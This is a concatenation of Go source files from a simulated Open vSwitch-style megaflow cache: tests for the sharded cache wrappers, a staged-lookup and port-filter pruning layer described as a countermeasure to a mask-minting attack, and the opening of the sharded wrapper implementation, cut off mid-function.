				t.Fatalf("staged verdict %v, flat %v", sEnt.Verdict, fEnt.Verdict)
			}
		}
		if staged.Len() != flat.Len() || staged.Hits != flat.Hits || staged.Misses != flat.Misses {
			t.Fatalf("state diverged: staged %d/%d/%d, flat %d/%d/%d",
				staged.Len(), staged.Hits, staged.Misses, flat.Len(), flat.Hits, flat.Misses)
		}
	})
}
