// Sharded wrapper tests: shard routing, the cross-shard mask ledger,
// flow-limit splitting, snapshot aggregation, and the concurrent
// install/lookup/trim fuzz property. The sharded==unsharded differential
// against a whole switch lives in internal/dataplane.
package cache_test

import (
	"errors"
	"sync"
	"testing"

	"policyinject/internal/burst"
	"policyinject/internal/cache"
	"policyinject/internal/flow"
)

func exactMatch(k flow.Key) flow.Match {
	return flow.Match{Key: k, Mask: flow.ExactMask}
}

// TestShardedMegaflowRoutingAndLookup: entries land in the shard of the
// triggering key's hash, lookups (scalar and batch) find them wherever
// they live, and Len aggregates the shards.
func TestShardedMegaflowRoutingAndLookup(t *testing.T) {
	sm := cache.NewShardedMegaflow(cache.MegaflowConfig{}, 4)
	if sm.NumShards() != 4 {
		t.Fatalf("NumShards = %d, want 4", sm.NumShards())
	}
	const n = 64
	keys := make([]flow.Key, n)
	for i := range keys {
		keys[i] = confKey(uint64(0x0a000000+i), 443)
		h := keys[i].Hash()
		if _, err := sm.InsertHashed(exactMatch(keys[i]), allowVerdict(), 1, h); err != nil {
			t.Fatal(err)
		}
	}
	if sm.Len() != n {
		t.Fatalf("Len = %d, want %d", sm.Len(), n)
	}
	perShard := 0
	seen := make(map[int]bool)
	for si := 0; si < sm.NumShards(); si++ {
		l := sm.ShardLen(si)
		perShard += l
		if l > 0 {
			seen[si] = true
		}
	}
	if perShard != n {
		t.Fatalf("shard lens sum to %d, want %d", perShard, n)
	}
	if len(seen) < 2 {
		t.Fatalf("only %d shards populated by %d distinct keys; hash routing looks broken", len(seen), n)
	}
	// Scalar lookups resolve every key; each lives where its hash says.
	for i, k := range keys {
		ent, _, ok := sm.Lookup(k, 2)
		if !ok || ent == nil {
			t.Fatalf("key %d missed after insert", i)
		}
	}
	// The batched sweep resolves a full-miss burst identically.
	hashes := make([]uint64, n)
	for i := range keys {
		hashes[i] = keys[i].Hash()
	}
	ents := make([]*cache.Entry, n)
	costs := make([]int, n)
	var miss burst.Bitmap
	miss.Reset(n)
	miss.SetAll()
	sm.LookupBatch(keys, hashes, 3, ents, costs, &miss)
	if !miss.Empty() {
		t.Fatalf("batch sweep left misses: %v", miss)
	}
	for i := range ents {
		if ents[i] == nil {
			t.Fatalf("batch left ents[%d] nil", i)
		}
	}
}

// TestShardedMegaflowMaskLedger: a mask resident in several shards
// counts once globally, the user Minted/Dropped hooks fire on the
// 0->1/1->0 residency edges only, and the global MaxMasks cap holds
// across shards.
func TestShardedMegaflowMaskLedger(t *testing.T) {
	sm := cache.NewShardedMegaflow(cache.MegaflowConfig{MaxMasks: 2}, 4)
	var minted, dropped int
	sm.SetMaskHooks(cache.MaskHooks{
		Minted:  func(flow.Match) { minted++ },
		Dropped: func(flow.Mask) { dropped++ },
	})

	// One wildcard mask (src/24), installed for keys that hash to
	// different shards: one logical mask, several shard subtables.
	mask24 := func() flow.Mask {
		var m flow.Match
		m.Mask.SetPrefix(flow.FieldIPSrc, 24)
		return m.Mask
	}()
	placed := make(map[int]bool)
	i := 0
	for len(placed) < 2 && i < 4096 {
		k := confKey(uint64(0x0a000000+i), 443)
		h := k.Hash()
		si := sm.ShardIndex(h)
		if !placed[si] {
			var m flow.Match
			m.Key = k
			m.Mask = mask24
			m.Normalize()
			if _, err := sm.InsertHashed(m, allowVerdict(), 1, h); err != nil {
				t.Fatal(err)
			}
			placed[si] = true
		}
		i++
	}
	if len(placed) < 2 {
		t.Fatal("could not spread one mask over two shards")
	}
	if sm.NumMasks() != 1 {
		t.Fatalf("NumMasks = %d, want 1 (mask resident in %d shards)", sm.NumMasks(), len(placed))
	}
	if minted != 1 {
		t.Fatalf("Minted hook fired %d times, want once", minted)
	}

	// A second distinct mask fills the global cap; a third is rejected
	// regardless of which shard it would land in.
	k2 := confKey(0x0b000000, 443)
	if _, err := sm.InsertHashed(exactMatch(k2), allowVerdict(), 1, k2.Hash()); err != nil {
		t.Fatal(err)
	}
	if sm.NumMasks() != 2 {
		t.Fatalf("NumMasks = %d, want 2", sm.NumMasks())
	}
	var m3 flow.Match
	m3.Key = confKey(0x0c000000, 443)
	m3.Mask.SetPrefix(flow.FieldIPSrc, 16)
	m3.Normalize()
	if _, err := sm.InsertHashed(m3, allowVerdict(), 1, flow.Key(m3.Key).Hash()); !errors.Is(err, cache.ErrMaskLimit) {
		t.Fatalf("third mask: err = %v, want ErrMaskLimit", err)
	}

	// Flushing drops everything; the Dropped hook fires once per logical
	// mask, after the last shard releases it.
	sm.Flush()
	if sm.NumMasks() != 0 {
		t.Fatalf("NumMasks = %d after flush", sm.NumMasks())
	}
	if dropped != 2 {
		t.Fatalf("Dropped hook fired %d times, want 2", dropped)
	}
}

// TestShardedMegaflowFlowLimitSplit: the total limit splits across
// shards (ceiling), trims enforce it, and SetFlowLimit retargets it.
func TestShardedMegaflowFlowLimitSplit(t *testing.T) {
	sm := cache.NewShardedMegaflow(cache.MegaflowConfig{FlowLimit: 16}, 4)
	if sm.FlowLimit() != 16 {
		t.Fatalf("FlowLimit = %d, want 16", sm.FlowLimit())
	}
	for i := 0; i < 256; i++ {
		k := confKey(uint64(0x0a000000+i), 443)
		sm.InsertHashed(exactMatch(k), allowVerdict(), uint64(i), k.Hash())
	}
	// Each shard holds at most its ceil(16/4)=4 slice.
	for si := 0; si < sm.NumShards(); si++ {
		if l := sm.ShardLen(si); l > 4 {
			t.Fatalf("shard %d holds %d entries, per-shard slice is 4", si, l)
		}
	}
	sm.SetFlowLimit(8)
	sm.TrimToLimit()
	if got := sm.Len(); got > 8 {
		t.Fatalf("Len = %d after trim to total 8", got)
	}
	for si := 0; si < sm.NumShards(); si++ {
		if l := sm.ShardLen(si); l > 2 {
			t.Fatalf("shard %d holds %d entries after trim, slice is 2", si, l)
		}
	}
}

// TestShardedMegaflowSnapshotAggregates: the aggregate snapshot folds
// per-shard counters and the wrapper's coalesced-run accounting, and
// Lookups == Hits + Misses holds through both.
func TestShardedMegaflowSnapshotAggregates(t *testing.T) {
	sm := cache.NewShardedMegaflow(cache.MegaflowConfig{}, 2)
	k := confKey(0x0a000001, 443)
	ent, err := sm.InsertHashed(exactMatch(k), allowVerdict(), 1, k.Hash())
	if err != nil {
		t.Fatal(err)
	}
	sm.Lookup(k, 2)                      // hit
	sm.Lookup(confKey(0x0bb00001, 9), 2) // miss
	sm.AccountRun(ent, 7, 1, 3)          // coalesced run: 7 hits
	s := sm.Snapshot()
	if s.Hits != 1+7 {
		t.Fatalf("Hits = %d, want 8 (1 scalar + 7 coalesced)", s.Hits)
	}
	if s.Misses != 1 {
		t.Fatalf("Misses = %d, want 1", s.Misses)
	}
	if s.Lookups != s.Hits+s.Misses {
		t.Fatalf("Lookups = %d, want Hits+Misses = %d", s.Lookups, s.Hits+s.Misses)
	}
	if s.Entries != 1 || s.Masks != 1 {
		t.Fatalf("Entries/Masks = %d/%d, want 1/1", s.Entries, s.Masks)
	}
	if ent.Hits != 8 {
		t.Fatalf("entry Hits = %d, want 8", ent.Hits)
	}
}

// TestShardedEMCAndSMCBasics: per-shard routing, capacity splitting and
// snapshot aggregation of the sharded reference tiers.
func TestShardedEMCAndSMCBasics(t *testing.T) {
	backing := cache.NewMegaflow(cache.MegaflowConfig{})
	seed := func(k flow.Key) *cache.Entry {
		ent, err := backing.Insert(exactMatch(k), allowVerdict(), 1)
		if err != nil {
			t.Fatal(err)
		}
		return ent
	}
	emc := cache.NewShardedEMC(cache.EMCConfig{Entries: 64}, 4)
	smc := cache.NewShardedSMC(cache.SMCConfig{Entries: 64}, 4)
	if emc.Cap() != 64 || smc.Cap() < 64 {
		t.Fatalf("caps: emc %d (want 64), smc %d (want >= 64)", emc.Cap(), smc.Cap())
	}
	const n = 32
	keys := make([]flow.Key, n)
	for i := range keys {
		keys[i] = confKey(uint64(0x0a000100+i), 80)
		ent := seed(keys[i])
		emc.Insert(keys[i], ent)
		smc.Insert(keys[i], ent)
		// The SMC is a lossy fingerprint cache (a later key may overwrite
		// an earlier slot), so its contract is probed right after insert.
		if _, ok := smc.Lookup(keys[i], 2); !ok {
			t.Fatalf("SMC missed key %d immediately after insert", i)
		}
	}
	for i, k := range keys {
		if _, ok := emc.Lookup(k, 2); !ok {
			t.Fatalf("EMC missed key %d", i)
		}
	}
	if emc.Len() != n {
		t.Fatalf("EMC Len = %d, want %d", emc.Len(), n)
	}
	es, ss := emc.Snapshot(), smc.Snapshot()
	if es.Hits != n || ss.Hits != n {
		t.Fatalf("snapshot hits emc/smc = %d/%d, want %d each", es.Hits, ss.Hits, n)
	}
	// Dead backing entries read as stale misses (no purge under the
	// shard read lock).
	backing.Remove(exactMatch(keys[0]))
	if _, ok := emc.Lookup(keys[0], 3); ok {
		t.Fatal("EMC returned a dead reference")
	}
	if es := emc.Snapshot(); es.Stale != 1 {
		t.Fatalf("EMC Stale = %d, want 1", es.Stale)
	}
	emc.Flush()
	smc.Flush()
	if emc.Len() != 0 || smc.Len() != 0 {
		t.Fatalf("post-flush lens emc/smc = %d/%d", emc.Len(), smc.Len())
	}
}

// FuzzShardedMegaflowConcurrent is the concurrent install/lookup/trim
// property: under an adversarial interleaving of writers (inserts,
// evictions, trims, flow-limit cuts) and readers (scalar and batched
// lookups), the sharded cache neither loses internal consistency
// (Lookups == Hits+Misses, Len within the limit after a final trim) nor
// races (the CI race leg runs this corpus under -race).
func FuzzShardedMegaflowConcurrent(f *testing.F) {
	f.Add(uint64(1), uint8(4), uint8(3))
	f.Add(uint64(0xdeadbeef), uint8(2), uint8(7))
	f.Add(uint64(42), uint8(8), uint8(1))
	f.Fuzz(func(t *testing.T, seed uint64, shards uint8, writers uint8) {
		nsh := int(shards%8) + 2
		nwr := int(writers%4) + 1
		sm := cache.NewShardedMegaflow(cache.MegaflowConfig{FlowLimit: 64}, nsh)
		keyAt := func(i uint64) flow.Key {
			return confKey(0x0a000000|(seed+i)%509, 443)
		}
		var wg sync.WaitGroup
		// Writers: install a rolling window of exact megaflows, with
		// periodic maintenance (idle eviction, trim, limit cuts).
		for w := 0; w < nwr; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				for i := uint64(0); i < 256; i++ {
					k := keyAt(i + uint64(w)*131)
					sm.InsertHashed(exactMatch(k), allowVerdict(), i, k.Hash())
					switch i % 64 {
					case 13:
						sm.EvictIdle(i / 2)
					case 29:
						sm.SetFlowLimit(32 + int(i%64))
					case 47:
						sm.TrimToLimit()
					}
				}
			}(w)
		}
		// Readers: scalar probes plus full-burst batched sweeps.
		for r := 0; r < 2; r++ {
			wg.Add(1)
			go func(r int) {
				defer wg.Done()
				const bn = 32
				keys := make([]flow.Key, bn)
				hashes := make([]uint64, bn)
				ents := make([]*cache.Entry, bn)
				costs := make([]int, bn)
				var miss burst.Bitmap
				for i := uint64(0); i < 128; i++ {
					sm.Lookup(keyAt(i*3+uint64(r)), i)
					for j := range keys {
						keys[j] = keyAt(i + uint64(j))
						hashes[j] = keys[j].Hash()
						ents[j] = nil
						costs[j] = 0
					}
					miss.Reset(bn)
					miss.SetAll()
					sm.LookupBatch(keys, hashes, i, ents, costs, &miss)
				}
			}(r)
		}
		wg.Wait()
		sm.SetFlowLimit(64)
		sm.TrimToLimit()
		if got := sm.Len(); got > 64+nsh {
			t.Fatalf("Len = %d after final trim to 64 across %d shards", got, nsh)
		}
		s := sm.Snapshot()
		if s.Lookups != s.Hits+s.Misses {
			t.Fatalf("Lookups %d != Hits %d + Misses %d", s.Lookups, s.Hits, s.Misses)
		}
	})
}
