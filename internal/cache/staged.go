package cache

import (
	"math/bits"
	"sort"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
	"policyinject/internal/trie"
)

// stagedState is the per-subtable staged-lookup and pruning state the
// megaflow cache maintains when MegaflowConfig.StagedPruning is set. It
// models the two real-world OVS countermeasures to the paper's attack:
//
//   - staged lookups (lib/classifier subtable indices): the subtable's
//     mask is split along flow.Stage boundaries and a refcounted index of
//     incremental stage hashes is kept per intermediate stage, so a probe
//     can bail at the first stage whose partial hash matches no resident
//     entry — without masking or hashing the rest of the key;
//   - the L4 ports filter (the classifier's ports trie): for a mask that
//     is a pure prefix over tp_src/tp_dst, the distinct masked port
//     values are tracked in a trie whose min/max bound lets both a single
//     key and a whole burst be rejected in O(1).
//
// On top of those, the stage-0 signature (the masked word-0 values:
// in_port, eth_type, vlan_tci) is tracked exactly, because it is the
// field the attack cannot vary — every minted mask pins the attacker's
// in_port, so victim traffic rejects the entire covert ladder on this
// check alone.
type stagedState struct {
	w0mask uint64         // mask word 0 (stage-0 signature mask)
	w0vals map[uint64]int // refcounted masked word-0 values; nil when w0mask == 0

	used uint8        // bitmap of flow.Stages the mask selects
	idx  []stageIndex // intermediate stage-hash indices, ascending stage

	ports []portFilter // L4 ports filters (masks with a pure port prefix)

	// EWMA ranking state: hot subtables are probed first. sinceRank
	// counts hits in the current rank window.
	ewma      float64
	sinceRank uint64
}

type stageIndex struct {
	stage  flow.Stage
	hashes map[uint64]int // refcounted incremental stage-chain hashes
}

// portFilter tracks the population of masked values of one L4 port field
// across a subtable's entries. A key (or a whole burst) whose masked
// value falls outside [min, max] cannot match any entry, because entries
// store masked keys and a match requires field equality.
type portFilter struct {
	field flow.Field
	pm    uint64 // right-aligned prefix mask over the field
	plen  int
	vals  *trie.Trie // distinct masked values, refcounted (ports-trie shape)
	min   uint64
	max   uint64
}

// portFields are the fields the ports filter covers.
var portFields = [...]flow.FieldID{flow.FieldTPSrc, flow.FieldTPDst}

// newStagedState derives the staged layout of a subtable from its mask.
func newStagedState(mask flow.Mask) *stagedState {
	ss := &stagedState{w0mask: mask[0]}
	if ss.w0mask != 0 {
		ss.w0vals = make(map[uint64]int)
	}
	last, anyUsed := mask.LastStage()
	for s := flow.Stage(0); s < flow.NumStages; s++ {
		if mask.StageUsed(s) {
			ss.used |= 1 << s
		}
	}
	if anyUsed {
		// One hash index per used intermediate stage after the metadata
		// stage (covered exactly by w0vals) and before the final stage
		// (covered by the entries map itself).
		for s := flow.StageL2; s < last; s++ {
			if mask.StageUsed(s) {
				ss.idx = append(ss.idx, stageIndex{stage: s, hashes: make(map[uint64]int)})
			}
		}
	}
	for _, id := range portFields {
		if plen, ok := mask.PrefixLen(id); ok && plen > 0 {
			f := flow.FieldByID(id)
			ss.ports = append(ss.ports, portFilter{
				field: f,
				pm:    ((uint64(1) << uint(plen)) - 1) << uint(f.Bits-plen),
				plen:  plen,
				vals:  trie.New(f.Bits),
			})
		}
	}
	return ss
}

// chainTo advances the incremental stage-hash chain h (seeded with
// flow.StageHashSeed) from stage next through stage s inclusive, skipping
// stages the mask does not use, and returns the new accumulator plus the
// next stage to resume from.
func (ss *stagedState) chainTo(h uint64, k *flow.Key, mask *flow.Mask, next, s flow.Stage) (uint64, flow.Stage) {
	for ; next <= s; next++ {
		if ss.used&(1<<next) != 0 {
			h = k.HashStage(h, mask, next)
		}
	}
	return h, next
}

// addEntry indexes a freshly inserted entry key (already masked) into the
// subtable's staged structures.
func (st *mfSubtable) addEntry(k flow.Key) {
	ss := st.staged
	if ss == nil {
		return
	}
	if ss.w0vals != nil {
		ss.w0vals[k[0]]++
	}
	h, next := flow.StageHashSeed, flow.Stage(0)
	for i := range ss.idx {
		h, next = ss.chainTo(h, &k, &st.mask, next, ss.idx[i].stage)
		ss.idx[i].hashes[h]++
	}
	for i := range ss.ports {
		ss.ports[i].insert(ss.ports[i].field.Get(&k))
	}
}

// dropEntry removes an entry key (already masked) from the subtable's
// staged structures.
func (st *mfSubtable) dropEntry(k flow.Key) {
	ss := st.staged
	if ss == nil {
		return
	}
	if ss.w0vals != nil {
		if ss.w0vals[k[0]]--; ss.w0vals[k[0]] <= 0 {
			delete(ss.w0vals, k[0])
		}
	}
	h, next := flow.StageHashSeed, flow.Stage(0)
	for i := range ss.idx {
		h, next = ss.chainTo(h, &k, &st.mask, next, ss.idx[i].stage)
		if ss.idx[i].hashes[h]--; ss.idx[i].hashes[h] <= 0 {
			delete(ss.idx[i].hashes, h)
		}
	}
	for i := range ss.ports {
		ss.ports[i].remove(ss.ports[i].field.Get(&k))
	}
}

func (pf *portFilter) insert(v uint64) {
	if pf.vals.Len() == 0 {
		pf.min, pf.max = v, v
	} else {
		if v < pf.min {
			pf.min = v
		}
		if v > pf.max {
			pf.max = v
		}
	}
	pf.vals.Insert(v, pf.plen)
}

func (pf *portFilter) remove(v uint64) {
	pf.vals.Remove(v, pf.plen)
	if pf.vals.Len() == 0 {
		// Empty range rejects everything; the subtable is about to be
		// dropped anyway once its last entry goes.
		pf.min, pf.max = 1, 0
		return
	}
	// The trie stores masked values (low bits zero), so a stored prefix's
	// left-aligned Value is the masked value itself.
	if v == pf.min {
		if p, ok := pf.vals.Min(); ok {
			pf.min = p.Value
		}
	}
	if v == pf.max {
		if p, ok := pf.vals.Max(); ok {
			pf.max = p.Value
		}
	}
}

// probeOutcome classifies one staged subtable visit.
type probeOutcome uint8

const (
	probePruned probeOutcome = iota // rejected by a zero-cost prefilter (not billed as a visit)
	probeBailed                     // visited, bailed at a stage-hash index
	probeMissed                     // visited, full probe found no entry
	probeHit                        // visited, full probe hit
)

// stagedProbe classifies k against the subtable: signature and ports
// prefilters first (free rejects), then the incremental stage-hash chain
// (bail at the first non-matching stage), then the full masked map probe.
// Only bails and full probes count as visits — that is the physical cost
// the staged sweep reports. skipW0 elides the signature check when the
// caller already proved it passes (the batched sweep does, for bursts
// with a single word-0 signature); eliding a check that can only pass
// keeps counters identical to the scalar sequence.
func (st *mfSubtable) stagedProbe(k *flow.Key, skipW0 bool) (*Entry, probeOutcome) {
	ss := st.staged
	if !skipW0 && ss.w0vals != nil {
		if _, ok := ss.w0vals[k[0]&ss.w0mask]; !ok {
			return nil, probePruned
		}
	}
	for i := range ss.ports {
		pf := &ss.ports[i]
		if v := pf.field.Get(k) & pf.pm; v < pf.min || v > pf.max {
			return nil, probePruned
		}
	}
	h, next := flow.StageHashSeed, flow.Stage(0)
	for i := range ss.idx {
		h, next = ss.chainTo(h, k, &st.mask, next, ss.idx[i].stage)
		if _, ok := ss.idx[i].hashes[h]; !ok {
			return nil, probeBailed
		}
	}
	if ent, ok := st.entries[st.mask.Apply(*k)]; ok {
		return ent, probeHit
	}
	return nil, probeMissed
}

// lookupStaged is the scalar staged-pruning scan: ranked subtable order,
// free prefilter rejects, stage-hash bails, full probes only where the
// prefilters pass. Hit results equal the flat scan's; the returned cost
// is the number of subtables physically costed (bails + full probes).
func (m *Megaflow) lookupStaged(k flow.Key, now uint64) (*Entry, int, bool) {
	m.Lookups++
	cost := 0
	for _, st := range m.subtables {
		ent, outcome := st.stagedProbe(&k, false)
		switch outcome {
		case probePruned:
			m.SubtablePrunes++
			continue
		case probeBailed:
			cost++
			m.SubtableVisits++
			m.StageBails++
			continue
		case probeMissed:
			cost++
			m.SubtableVisits++
			continue
		}
		cost++
		m.SubtableVisits++
		m.creditEntry(ent, now)
		st.hits++
		st.lastHit = now
		st.staged.sinceRank++
		m.Hits++
		m.MasksScanned += uint64(cost)
		m.maybeRank()
		return ent, cost, true
	}
	m.Misses++
	m.MasksScanned += uint64(cost)
	m.maybeRank()
	return nil, cost, false
}

// maxBurstSignatures caps the distinct word-0 signatures the burst-level
// prefilter tracks; bursts with more fall back to per-key checks only.
const maxBurstSignatures = 16

// lookupBatchStaged is the staged-pruning variant of the inverted
// subtable sweep. On top of the per-key staged probes it adds a
// burst-level prefilter: a subtable whose stage-0 signature set matches
// none of the burst's word-0 values, or whose L4 port range cannot
// intersect the burst's, is skipped for the whole burst in O(1) — the
// per-key prefilters would have rejected every key anyway (prefix
// masking is monotonic, and the signature sets are exact), so per-key
// counter effects equal the scalar staged sequence. Ranking is deferred
// to the sweep boundary; exact batch==scalar equality therefore holds
// for bursts that do not cross a RankEvery boundary.
//
//lint:hotpath
func (m *Megaflow) lookupBatchStaged(keys []flow.Key, now uint64, ents []*Entry, costs []int, miss *burst.Bitmap) {
	m.BurstSweeps++
	if cap(m.batchCost) < len(keys) {
		m.batchCost = make([]int, len(keys))
	}
	mfCost := m.batchCost[:len(keys)]

	// One pass over the unresolved keys: distinct word-0 signatures and
	// raw L4 port ranges. Both are conservative for the whole sweep (keys
	// only leave the miss set), so the burst-level skips stay sound as
	// the burst drains.
	var w0 [maxBurstSignatures]uint64
	nW0, w0ok := 0, true
	tpSrc, tpDst := flow.FieldByID(flow.FieldTPSrc), flow.FieldByID(flow.FieldTPDst)
	var srcMin, srcMax, dstMin, dstMax uint64
	first := true
	preWords := miss.Words()
	for wi := range preWords {
		w := preWords[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			mfCost[i] = 0
			if w0ok {
				kw := keys[i][0]
				seen := false
				for _, have := range w0[:nW0] {
					if have == kw {
						seen = true
						break
					}
				}
				if !seen {
					if nW0 < maxBurstSignatures {
						w0[nW0] = kw
						nW0++
					} else {
						w0ok = false
					}
				}
			}
			sp, dp := tpSrc.Get(&keys[i]), tpDst.Get(&keys[i])
			if first {
				srcMin, srcMax, dstMin, dstMax = sp, sp, dp, dp
				first = false
				continue
			}
			if sp < srcMin {
				srcMin = sp
			}
			if sp > srcMax {
				srcMax = sp
			}
			if dp < dstMin {
				dstMin = dp
			}
			if dp > dstMax {
				dstMax = dp
			}
		}
	}

	for _, st := range m.subtables {
		if miss.Empty() {
			break
		}
		ss := st.staged
		// With a single burst-wide signature, the burst-level check settles
		// the per-key signature checks too: they would all pass (skipW0) or
		// the subtable is skipped outright.
		skipW0 := false
		if w0ok && ss.w0vals != nil {
			match := false
			for _, w := range w0[:nW0] {
				if _, ok := ss.w0vals[w&ss.w0mask]; ok {
					match = true
					break
				}
			}
			if !match {
				m.SubtablePrunes += uint64(miss.Count())
				continue
			}
			skipW0 = nW0 == 1
		}
		skip := false
		for i := range ss.ports {
			pf := &ss.ports[i]
			lo, hi := dstMin&pf.pm, dstMax&pf.pm
			if pf.field.ID == flow.FieldTPSrc {
				lo, hi = srcMin&pf.pm, srcMax&pf.pm
			}
			if lo > pf.max || hi < pf.min {
				skip = true
				break
			}
		}
		if skip {
			m.SubtablePrunes += uint64(miss.Count())
			continue
		}
		words := miss.Words()
		for wi := range words {
			w := words[wi]
			for w != 0 {
				i := wi<<6 + bits.TrailingZeros64(w)
				w &= w - 1
				ent, outcome := st.stagedProbe(&keys[i], skipW0)
				switch outcome {
				case probePruned:
					m.SubtablePrunes++
					continue
				case probeBailed:
					mfCost[i]++
					m.SubtableVisits++
					m.StageBails++
					continue
				case probeMissed:
					mfCost[i]++
					m.SubtableVisits++
					continue
				}
				mfCost[i]++
				m.SubtableVisits++
				m.creditEntry(ent, now)
				st.hits++
				st.lastHit = now
				ss.sinceRank++
				m.Lookups++
				m.Hits++
				m.MasksScanned += uint64(mfCost[i])
				ents[i] = ent
				costs[i] += mfCost[i]
				miss.Clear(i)
			}
		}
	}
	// Survivors paid their pruned sweep: bill them as scalar staged misses.
	tailWords := miss.Words()
	for wi := range tailWords {
		w := tailWords[wi]
		for w != 0 {
			i := wi<<6 + bits.TrailingZeros64(w)
			w &= w - 1
			m.Lookups++
			m.Misses++
			m.MasksScanned += uint64(mfCost[i])
			costs[i] += mfCost[i]
		}
	}
	m.maybeRank()
}

// maybeRank re-ranks the staged scan order by EWMA hit rate once per
// RankEvery lookups: hot subtables float to the front, so warm traffic
// resolves in the first probes regardless of how many cold masks the
// attacker minted behind them. Safe because megaflows are disjoint — any
// scan order finds the same (unique) match. Scalar lookups clock the
// boundary per lookup; the batched sweep clocks it per sweep.
func (m *Megaflow) maybeRank() {
	if !m.cfg.StagedPruning || m.Lookups-m.lastRank < uint64(m.cfg.RankEvery) {
		return
	}
	m.lastRank = m.Lookups
	for _, st := range m.subtables {
		ss := st.staged
		ss.ewma = rankAlpha*float64(ss.sinceRank) + (1-rankAlpha)*ss.ewma
		ss.sinceRank = 0
	}
	//lint:allow hotpathalloc re-rank is amortized over RankEvery lookups
	sort.SliceStable(m.subtables, func(i, j int) bool {
		return m.subtables[i].staged.ewma > m.subtables[j].staged.ewma
	})
}
