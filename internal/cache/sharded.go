// Sharded cache wrappers: the concurrent datapath's fast path.
//
// Each wrapper (ShardedMegaflow, ShardedEMC, ShardedSMC) partitions its
// single-goroutine cache by flow hash into S power-of-two shards, each a
// private child instance behind a per-shard RWMutex:
//
//   - the read side (Lookup/LookupBatch) takes the shard *read* lock and
//     probes through the lookupShared variants, which replace every
//     counter and entry mutation with an atomic — so any number of PMD
//     readers proceed concurrently on one shard;
//   - the write side (Insert, EvictIdle, TrimToLimit, Revalidate, Flush)
//     takes the shard *write* lock and reuses the child's single-threaded
//     code unchanged, excluding readers of that shard only.
//
// Shard placement uses bits [32,40) of the flow hash: disjoint from the
// SMC fingerprint (low bits), the SMC signature (top 16 bits) and PMD
// RSS steering (hash mod nPMD), so sharding stays decorrelated from the
// other hash consumers.
//
// A wildcard megaflow is installed into the shard of the *triggering
// key's* hash — the shard where that key's future lookups probe. Two
// keys covered by one megaflow but hashed to different shards therefore
// each mint their own copy (one extra upcall), exactly like OVS keeps an
// independent dpcls per PMD thread. Verdicts are identical either way;
// scan-cost and upcall attribution shifts per shard, which is the
// "counters modulo shard attribution" clause of the differential suite.
package cache

import (
	"math/bits"
	"sync"
	"sync/atomic"

	"policyinject/internal/burst"
	"policyinject/internal/flow"
)

// DefaultShards is the shard count used when a caller asks for sharding
// without picking one.
const DefaultShards = 8

// shardShift positions the shard-index bits of the flow hash.
const shardShift = 32

// roundShards clamps and rounds a requested shard count to a power of
// two in [2, 256].
func roundShards(n int) int {
	if n < 2 {
		n = 2
	}
	if n > 256 {
		n = 256
	}
	p := 2
	for p < n {
		p <<= 1
	}
	return p
}

// perShardLimit splits a total entry limit across n shards (ceiling, so
// the shards jointly admit at least the total; non-positive passes
// through as "unlimited").
func perShardLimit(total, n int) int {
	if total <= 0 {
		return total
	}
	return (total + n - 1) / n
}

// mfShard is one megaflow shard: the child cache and the lock that
// guards it. Readers hold mu.RLock around lookupShared probes; every
// mutation holds mu. Cross-shard access outside the lock is a bug the
// lockdiscipline analyzer's sharded rule flags.
//
//lint:sharded
type mfShard struct {
	mu sync.RWMutex
	mf *Megaflow
}

// MegaflowShardSnapshot is one shard's (or the aggregated) stats
// snapshot, assembled under the shard lock so plain reads are safe.
type MegaflowShardSnapshot struct {
	Entries, Masks                      int
	Hits, Misses, Lookups, MasksScanned uint64
	SubtableVisits, SubtablePrunes      uint64
}

// ShardedMegaflow is the concurrent megaflow cache: per-shard insert
// locks, lock-shared readers, per-shard maintenance. Safe for any mix of
// concurrent Lookup/LookupBatch/AccountRun with concurrent Insert,
// EvictIdle, TrimToLimit, Revalidate and Flush. The one exception is
// SetMaskHooks, which must run before traffic starts.
type ShardedMegaflow struct {
	smask  uint64 // shard index mask (nShards-1)
	staged bool   // children run staged pruning: reads serialize per shard
	limit  atomic.Int64
	shards []mfShard

	// Run-coalescing accounting (AccountRun cannot know its entry's
	// shard, so coalesced hits bill wrapper-level atomic counters that
	// Snapshot folds into the totals).
	runLookups, runHits, runScans uint64

	// hookMu guards the cross-shard mask ledger below: the same logical
	// mask may be resident in several shards (one subtable per shard),
	// but the user-facing mask lifecycle — quota admission, Minted,
	// Dropped, NumMasks — must see each mask once. The refcount map
	// tracks per-mask shard residency; user hooks fire on the 0->1 and
	// 1->0 edges only.
	hookMu    sync.Mutex
	userHooks MaskHooks
	maskRef   map[flow.Mask]int
	maxMasks  int
}

// NewShardedMegaflow builds a sharded megaflow cache with the given
// shard count (rounded to a power of two in [2, 256]; <= 0 means
// DefaultShards). The per-entry flow limit is split evenly across
// shards; the MaxMasks quota is enforced globally through the wrapper's
// mask ledger. SortByHits is incompatible with concurrent readers
// (lookups would reorder the scan) and is forced off; MaskEvictLRU
// would need cross-shard eviction and is not supported (callers reject
// it — see dataplane.WithShards).
func NewShardedMegaflow(cfg MegaflowConfig, shards int) *ShardedMegaflow {
	if shards <= 0 {
		shards = DefaultShards
	}
	n := roundShards(shards)
	total := cfg.FlowLimit
	if total == 0 {
		total = DefaultFlowLimit
	}
	sm := &ShardedMegaflow{
		smask:    uint64(n - 1),
		staged:   cfg.StagedPruning,
		shards:   make([]mfShard, n),
		maskRef:  make(map[flow.Mask]int),
		maxMasks: cfg.MaxMasks,
	}
	sm.limit.Store(int64(total))
	child := cfg
	child.SortByHits = false
	child.MaxMasks = 0 // the wrapper's ledger owns the global cap
	child.MaskEvictLRU = false
	child.FlowLimit = perShardLimit(total, n)
	for i := range sm.shards {
		mf := NewMegaflow(child)
		mf.shared = true
		mf.SetMaskHooks(MaskHooks{Admit: sm.admitShardMask, Minted: sm.shardMaskMinted, Dropped: sm.shardMaskDropped})
		sm.shards[i].mf = mf
	}
	return sm
}

// NumShards returns the shard count.
func (sm *ShardedMegaflow) NumShards() int { return len(sm.shards) }

// ShardIndex returns the shard a flow hash selects.
func (sm *ShardedMegaflow) ShardIndex(h uint64) int {
	return int((h >> shardShift) & sm.smask)
}

// admitShardMask is the per-child Admit hook: a mask already live in any
// shard is admitted for free (the logical subtable exists), the global
// MaxMasks cap gates next, and the user's quota hook decides last.
func (sm *ShardedMegaflow) admitShardMask(m flow.Match) error {
	sm.hookMu.Lock()
	defer sm.hookMu.Unlock()
	if sm.maskRef[m.Mask] > 0 {
		return nil
	}
	if sm.maxMasks > 0 && len(sm.maskRef) >= sm.maxMasks {
